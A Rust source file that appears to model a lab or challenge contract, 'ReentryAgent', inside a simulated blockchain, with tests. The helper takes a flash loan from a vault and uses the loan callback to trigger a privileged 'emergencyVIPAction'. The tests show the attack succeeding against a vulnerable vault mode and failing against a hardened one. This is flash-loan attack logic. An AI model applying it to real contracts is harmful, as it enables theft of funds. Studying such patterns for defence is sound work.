//! Model of the bundled `ReentryAgent` helper contract.

use alloy_dyn_abi::DynSolValue;
use libexo_core::types::{Address, Bytes, U256};
use libexo_periphery::abi::{HelperABI, VaultABI};

use crate::exec::{
    arg_uint, decode_entry, encode_output, require, Exec, ExecResult, Frame,
    Revert,
};

/// Stand-in deployment bytecode. Init code must be this followed by the
/// ABI-encoded vault address.
pub const HELPER_CODE: &[u8] = b"\x60\x80\x60\x40\x52ReentryAgent";

pub const VIP_ACTION: &str = "EXPLOITED_VIA_FLASH_LOAN";

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HelperState {
    pub vault: Address,
    pub owner: Address,
    pub exploit_complete: bool,
}

pub(crate) fn construct(
    creator: Address,
    init_code: &[u8],
) -> ExecResult<HelperState> {
    let args = init_code
        .strip_prefix(HELPER_CODE)
        .ok_or_else(|| Revert::new("unsupported init code"))?;
    require(args.len() == 32, "bad constructor arguments")?;
    Ok(HelperState {
        vault: Address::from_slice(&args[12..]),
        owner: creator,
        exploit_complete: false,
    })
}

fn state(exec: &Exec, at: Address) -> ExecResult<HelperState> {
    exec.world()
        .helper(at)
        .cloned()
        .ok_or_else(|| Revert::new("not a helper"))
}

pub(crate) fn execute(exec: &mut Exec, frame: &Frame) -> ExecResult<Bytes> {
    // receive()
    if frame.input.is_empty() {
        return Ok(Bytes::new());
    }
    let (func, args) = decode_entry(&HelperABI, frame)?;
    let this = frame.to;
    let me = state(exec, this)?;
    let ret = match func.name.as_str() {
        "vault" => vec![DynSolValue::Address(me.vault)],
        "owner" => vec![DynSolValue::Address(me.owner)],
        "exploitComplete" => vec![DynSolValue::Bool(me.exploit_complete)],
        "executeOperation" => {
            let amount = arg_uint(&args, 0)?;
            require(frame.caller == me.vault, "Only vault")?;
            exec.call_fn(
                this,
                me.vault,
                &VaultABI,
                "emergencyVIPAction",
                &[DynSolValue::String(VIP_ACTION.to_string())],
                U256::ZERO,
            )?;
            if let Some(h) = exec.world_mut().helper_mut(this) {
                h.exploit_complete = true;
            }
            exec.call_fn(this, me.vault, &VaultABI, "repay", &[], amount)?;
            vec![]
        }
        "trigger" => {
            require(frame.caller == me.owner, "Only owner")?;
            let info = exec.call_fn(
                this,
                me.vault,
                &VaultABI,
                "getContractInfo",
                &[],
                U256::ZERO,
            )?;
            let cap = arg_uint(&info, 2)?;
            require(!cap.is_zero(), "No cap available")?;
            require(
                exec.world().balance(this) >= cap,
                "Insufficient funds for deposit",
            )?;
            exec.call_fn(this, me.vault, &VaultABI, "deposit", &[], cap)?;
            let loan = exec.world().balance(me.vault) * U256::from(90)
                / U256::from(100);
            require(!loan.is_zero(), "Loan amount zero")?;
            exec.call_fn(
                this,
                me.vault,
                &VaultABI,
                "requestFlashLoan",
                &[DynSolValue::Uint(loan, 256)],
                U256::ZERO,
            )?;
            vec![]
        }
        "cleanup" => {
            require(frame.caller == me.owner, "Only owner")?;
            let deposited = deposit_of_self(exec, this, me.vault)?;
            if !deposited.is_zero() {
                withdraw(exec, this, me.vault, deposited)?;
            }
            let balance = exec.world().balance(this);
            if !balance.is_zero() {
                exec.call(this, me.owner, balance, Bytes::new()).map_err(
                    |r| Revert::new(format!("Cleanup transfer failed: {}", r)),
                )?;
            }
            vec![]
        }
        "emergencyWithdraw" => {
            require(frame.caller == me.owner, "Only owner")?;
            // try/catch around the deposit read only
            if let Ok(deposited) = deposit_of_self(exec, this, me.vault) {
                if !deposited.is_zero() {
                    withdraw(exec, this, me.vault, deposited)?;
                }
            }
            let balance = exec.world().balance(this);
            exec.call(this, me.owner, balance, Bytes::new()).map_err(|r| {
                Revert::new(format!("Emergency withdrawal failed: {}", r))
            })?;
            vec![]
        }
        other => return Err(Revert::new(format!("unsupported: {}", other))),
    };
    encode_output(func, &ret)
}

fn deposit_of_self(
    exec: &mut Exec,
    this: Address,
    vault: Address,
) -> ExecResult<U256> {
    let rets = exec.call_fn(
        this,
        vault,
        &VaultABI,
        "deposits",
        &[DynSolValue::Address(this)],
        U256::ZERO,
    )?;
    arg_uint(&rets, 0)
}

fn withdraw(
    exec: &mut Exec,
    this: Address,
    vault: Address,
    amount: U256,
) -> ExecResult<()> {
    exec.call_fn(
        this,
        vault,
        &VaultABI,
        "withdraw",
        &[DynSolValue::Uint(amount, 256)],
        U256::ZERO,
    )
    .map(|_| ())
}

#[cfg(test)]
mod tests {
    use libexo_core::types::{Address, Bytes, U256};
    use libexo_periphery::helper::HelperProxy;

    use super::{construct, HELPER_CODE};
    use crate::{
        exec::Exec,
        vault::VaultState,
        world::{Contract, GuardMode, World},
    };

    const OPERATOR: Address = Address::new([0x01; 20]);
    const VAULT: Address = Address::new([0xaa; 20]);

    fn deployed(mode: GuardMode) -> (World, Address) {
        let mut w = World::default();
        let initial = U256::from(10_000u64);
        w.contracts
            .insert(VAULT, Contract::Vault(VaultState::new(initial, mode)));
        w.credit(VAULT, initial);
        w.credit(OPERATOR, U256::from(5_000u64));
        let req = HelperProxy::deploy(
            &Bytes::from_static(HELPER_CODE),
            VAULT,
            U256::from(1_100u64),
        )
        .unwrap();
        let helper = Exec::new(&mut w, OPERATOR)
            .create(OPERATOR, 0, req.value, &req.data)
            .unwrap();
        (w, helper)
    }

    #[test]
    fn test_constructor_arguments() {
        let mut init = HELPER_CODE.to_vec();
        init.extend([0u8; 12]);
        init.extend(VAULT.as_slice());
        let s = construct(OPERATOR, &init).unwrap();
        assert_eq!(s.vault, VAULT);
        assert_eq!(s.owner, OPERATOR);
        assert!(construct(OPERATOR, HELPER_CODE).is_err());
    }

    #[test]
    fn test_trigger_exploits_vulnerable_vault() {
        let (mut w, helper) = deployed(GuardMode::Vulnerable);
        let req = HelperProxy::at(helper).trigger().unwrap();
        Exec::new(&mut w, OPERATOR)
            .call(OPERATOR, helper, U256::ZERO, req.data)
            .unwrap();
        let vault = w.vault(VAULT).unwrap();
        assert!(vault.exploited.contains(&helper));
        assert_eq!(vault.deposit_of(helper), U256::from(1_000u64));
        assert!(w.helper(helper).unwrap().exploit_complete);
        assert_eq!(w.balance(VAULT), U256::from(11_000u64));
    }

    #[test]
    fn test_trigger_reverts_on_hardened_vault() {
        let (mut w, helper) = deployed(GuardMode::Hardened);
        let req = HelperProxy::at(helper).trigger().unwrap();
        let err = Exec::new(&mut w, OPERATOR)
            .call(OPERATOR, helper, U256::ZERO, req.data)
            .unwrap_err();
        assert!(err.0.contains("Not eligible for VIP"));
        assert_eq!(w.balance(helper), U256::from(1_100u64));
    }

    #[test]
    fn test_only_owner() {
        let (mut w, helper) = deployed(GuardMode::Vulnerable);
        let stranger = Address::repeat_byte(0x55);
        let req = HelperProxy::at(helper).cleanup().unwrap();
        let err = Exec::new(&mut w, stranger)
            .call(stranger, helper, U256::ZERO, req.data)
            .unwrap_err();
        assert_eq!(err.0, "Only owner");
    }

    #[test]
    fn test_emergency_withdraw_tolerates_broken_view() {
        let (mut w, helper) = deployed(GuardMode::Vulnerable);
        w.vault_mut(VAULT).unwrap().deposits_view_broken = true;
        let req = HelperProxy::at(helper).emergency_withdraw().unwrap();
        Exec::new(&mut w, OPERATOR)
            .call(OPERATOR, helper, U256::ZERO, req.data)
            .unwrap();
        assert_eq!(w.balance(helper), U256::ZERO);
        assert_eq!(w.balance(OPERATOR), U256::from(5_000u64));
    }
}
